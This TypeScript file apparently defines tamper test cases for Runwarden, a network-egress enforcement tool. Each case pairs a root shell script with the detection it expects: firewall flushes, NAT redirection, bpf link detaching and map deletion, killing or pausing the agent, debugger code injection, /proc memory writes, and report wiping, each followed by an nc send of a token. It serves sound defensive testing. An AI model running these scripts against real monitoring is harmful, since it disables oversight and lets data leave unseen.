import type { Case, Open, Row } from '../case.ts'

/** What root in a job knows of the run: the agent, its state, its links and maps, and the machine as the agent sees it. */
const preamble = `
agent=$(cat $SHARED/agent)
state=$(ls -d /run/runwarden/$agent-* /run/runwarden/scopes/* 2>/dev/null)
host() { nsenter --target $agent --mount --cgroup --wd=. -- "$@"; }
top=$(host awk '$3 == "cgroup2" { print $2; exit }' /proc/self/mounts)
scope=$(host find $top -type d -name "runwarden-$agent-*" | head -n 1)
scope=\${scope:-$top}
id=$(host stat -c %i "$scope")
links() { bpftool -j link list | tr '{' '\\n' | sed -n "s/.*\\"id\\":\\([0-9]*\\),.*\\"cgroup_id\\":$id,.*/\\1/p"; }
maps() { for file in /proc/$agent/fdinfo/*; do sed -n 's/^map_id:[^0-9]*//p' "$file"; done | sort -un; }
map() { for one in $(maps); do bpftool map show id $one | grep -q "name $1 " && echo $one; done; }
reach() { for try in 1 2 3; do nc -N -w 2 $D4 8080 <<<"$T" && return 0; sleep \${1:-0.4}; done; return 9; }
`

/** Root's tampering is noticed and mended; what goes through in the meantime is told with it. */
const told: Open = {
  result: 'told',
  race: true,
  why: 'at T0 nothing keeps root from it; it is noticed, told as `agent-tampered` (critical) and mended at once, but not before a packet may have gone',
  advice: 'run the command with `--user`; tier T2 prevents it',
}

const writtenMemory: Open = {
  result: 'told',
  why: 'root may write into the memory of any process; an open for writing of the agent’s is `agent-tampered` (critical), of another process’s `process-memory-read` (high)',
  advice: 'run the command with `--user`; tier T2 prevents it',
}
const traced: Open = {
  result: 'told',
  why: 'root may trace any process; the detection is `outside-process-traced` (high)',
  advice: 'run the command with `--user`; tier T2 prevents it',
}
const removed: Open = {
  result: 'told',
  why: '`report.json`, `summary.md` and `report.html` are written whole from what the agent knows; that `events.ndjson` was removed, replaced or changed in size is `agent-tampered` (critical), and the exit status is 125 in fail-mode closed',
  advice: 'run the command with `--user`, and `--out` a folder that it cannot write to',
}

const twin = `echo "$T" | nc -N -w 3 $D4 8080`

const tamper = (
  id: string,
  technique: string,
  script: string,
  by: string,
  more: Partial<Case> = {},
): Case => ({
  id: `tamper-${id}`,
  technique,
  as: ['root'],
  alone: true,
  attempt: `${preamble}${script}`,
  twin,
  cannot: 'without Runwarden there is nothing to tamper with',
  by,
  ...more,
})

const held = 'no part of the enforcement'
const mended = 'told and mended: `agent-tampered`'

export const tampering: Row = {
  row: 21,
  title: 'Root in the job against Runwarden',
  cases: [
    tamper(
      'firewall',
      'iptables -F, nft flush ruleset',
      'for t in iptables ip6tables; do $t -F; $t -t nat -F; $t -P OUTPUT ACCEPT; done; nft flush ruleset; reach',
      held,
    ),
    tamper(
      'firewall-nat',
      'NAT rule that leads an allowed address to the thief',
      'nft add table ip zq && nft add chain ip zq out "{ type nat hook output priority -100; }" && nft add rule ip zq out ip daddr ${D4/11.18/11.19} dnat to $D4; nc -N -w 3 ${D4/11.18/11.19} 8080 <<<"$T"; status=$?; nft delete table ip zq; exit $status',
      'packet: decided behind NAT, by the real destination',
    ),
    tamper(
      'route',
      'ip route, ip rule: other ways to the same place',
      'ip route add $D4/32 via 192.0.2.1 dev to-internet; ip rule add to $D4 lookup main pref 5; reach; ip rule del pref 5; ip route del $D4/32; exit 9',
      held,
    ),
    tamper(
      'qdisc',
      'tc qdisc del, own clsact',
      'tc qdisc del dev to-internet root; tc qdisc del dev to-internet clsact; tc qdisc add dev to-internet clsact; reach',
      held,
    ),
    tamper(
      'detach',
      'bpftool link detach of every link of the scope',
      'for one in $(links); do bpftool link detach id $one; done; reach',
      mended,
      { root: told },
    ),
    tamper(
      'detach-loop',
      'the same without end, while it reaches out',
      '(for i in {1..60}; do for one in $(links); do bpftool link detach id $one 2>/dev/null; done; done) & reach 0.1; status=$?; kill $!; exit $status',
      mended,
      { root: told },
    ),
    tamper(
      'unpin',
      'removing the pins',
      'host find $state -type f -path "*bpf*" -delete; reach',
      mended,
    ),
    tamper(
      'unmount',
      'unmounting the bpf file system',
      'for m in $(host awk \'$3 == "bpf" && /runwarden/ { print $2 }\' /proc/self/mounts); do host umount -l "$m"; done; reach',
      mended,
    ),
    tamper(
      'covered',
      'a file system mounted over the state',
      'host mount -t tmpfs none /run/runwarden; reach; host umount /run/runwarden; exit 9',
      mended,
    ),
    tamper(
      'policy-map',
      'audit mode written into the policy’s map',
      'one=$(map policy_state); value=$(bpftool -j map lookup id $one key 0 0 0 0); bpftool map update id $one key 0 0 0 0 value 2 0 0 0; reach',
      mended,
      { root: told },
    ),
    tamper(
      'all-maps',
      'every entry of every map deleted',
      'for one in $(maps); do bpftool -j map dump id $one 2>/dev/null | head -c 200000 | tr "{" "\\n" | sed -n \'s/.*"key":\\[\\([^]]*\\)\\].*/\\1/p\' | tr -d \'"\' | tr "," " " | head -200 | while read -r key; do bpftool map delete id $one key $key; done; done 2>/dev/null; reach',
      mended,
    ),
    tamper(
      'own-program',
      'a program of root’s own at connect, which changes the destination behind ours',
      'host mkdir -p /run/zqfs; host mount -t bpf bpf /run/zqfs; host bpftool prog load $PROGRAMS/detour.o /run/zqfs/detour && host bpftool cgroup attach "$scope" connect4 pinned /run/zqfs/detour multi; nc -N -w 3 ${D4/11.18/11.19} 8080 <<<"$T"; host umount /run/zqfs; exit 9',
      'packet: decided by the real destination',
      {
        guests:
          'where T2 refuses the program, the connection goes where it was meant to, which is allowed: that arrives',
      },
    ),
    tamper(
      'kill',
      'kill -9 of the agent',
      'kill -9 $agent; sleep 0.3; reach',
      'pinned: the policy stays; there is no report, which is told by the exit status',
    ),
    tamper(
      'kill-detach',
      'kill -9 of the agent, then detaching the links',
      'them=$(links); kill -9 $agent; sleep 0.3; for one in $them; do bpftool link detach id $one; done; reach',
      'told: there is no report, which is told by the exit status',
      {
        root: {
          result: 'told',
          why: 'nobody is left to mend it; the run ends without a report and with an exit status that is not the command’s',
          advice: 'treat a run without a report as compromised; tier T2 prevents it',
        },
      },
    ),
    tamper(
      'stop',
      'SIGSTOP of the agent',
      'kill -STOP $agent; (sleep 4; kill -CONT $agent) & reach 0.1',
      'kernel: decides without the agent; told when it goes on',
    ),
    tamper(
      'stop-detach',
      'SIGSTOP of the agent, then detaching the links',
      'them=$(links); kill -STOP $agent; (sleep 3; kill -CONT $agent) & for one in $them; do bpftool link detach id $one; done; reach 0.1',
      'told when it goes on',
      { root: told },
    ),
    tamper(
      'debug',
      'SIGUSR1 to the agent, which opens node’s debugger',
      'kill -USR1 $agent; sleep 1; curl -sS --max-time 3 http://127.0.0.1:9229/json/list && exec node -e \'const list = await (await fetch("http://127.0.0.1:9229/json/list")).json(); const ws = new WebSocket(list[0].webSocketDebuggerUrl); ws.onopen = () => ws.send(JSON.stringify({ id: 1, method: "Runtime.evaluate", params: { expression: `process.getBuiltinModule("child_process").execSync("echo ${process.env.T} | nc -N -w 3 ${process.env.D4} 8080")` } })); ws.onmessage = (m) => { console.log(m.data); process.exit(0) }\' --input-type=module; exit 9',
      'the agent opens no debugger',
    ),
    tamper(
      'memory',
      'writing into the agent’s memory (/proc/PID/mem)',
      `/usr/bin/python3 - $agent <<'PY'
import os, sys
pid = sys.argv[1]
for line in open('/proc/%s/maps' % pid):
    if 'heap' in line:
        start = int(line.split('-')[0], 16)
        with open('/proc/%s/mem' % pid, 'r+b', buffering=0) as memory:
            memory.seek(start)
            same = memory.read(16)
            memory.seek(start)
            memory.write(same)
PY`,
      '–',
      { shows: 'status', root: writtenMemory },
    ),
    tamper(
      'trace',
      'tracing the agent (ptrace)',
      `/usr/bin/python3 - $agent <<'PY'
import ctypes, os, sys, time
libc = ctypes.CDLL(None, use_errno=True)
pid = int(sys.argv[1])
failed = libc.ptrace(0x4206, pid, 0, 0)
libc.ptrace(17, pid, 0, 0)
sys.exit(9 if failed else 0)
PY`,
      'told: `outside-process-traced`',
      { shows: 'status', root: traced },
    ),
    tamper(
      'terminate',
      'SIGTERM and SIGINT to the agent',
      'trap "" TERM INT; kill -TERM $agent; sleep 0.5; reach',
      'the policy stays to the end of the last process',
    ),
    tamper(
      'report',
      'the report’s folder emptied, events.ndjson written over',
      'out=$SHARED/../out; echo "{}" >$out/events.ndjson; rm -rf $out/*; [ ! -e $out/events.ndjson ]',
      '–',
      { shows: 'status', root: removed },
    ),
    tamper(
      'limits',
      'the agent starved: its priority, descriptors and memory limited (prlimit)',
      'prlimit --pid $agent --nofile=3:3; prlimit --pid $agent --as=1:1; renice 19 $agent; reach',
      'kernel: decides without the agent',
    ),
    tamper(
      'dead-proxy',
      'the agent’s sockets closed under it (ss -K)',
      'ss -K src 127.0.0.1; ss -uK; getent hosts $HOST; reach',
      'fail closed: no new names',
    ),
    tamper(
      'exit-race',
      'connects of a process in the background while the command ends',
      '(setsid bash -c "for i in {1..400}; do nc -N -w 1 $D4 8080 <<<$T; done" &) ; sleep 0.3; exit 9',
      'connect: the policy goes after the last process',
    ),
  ],
}
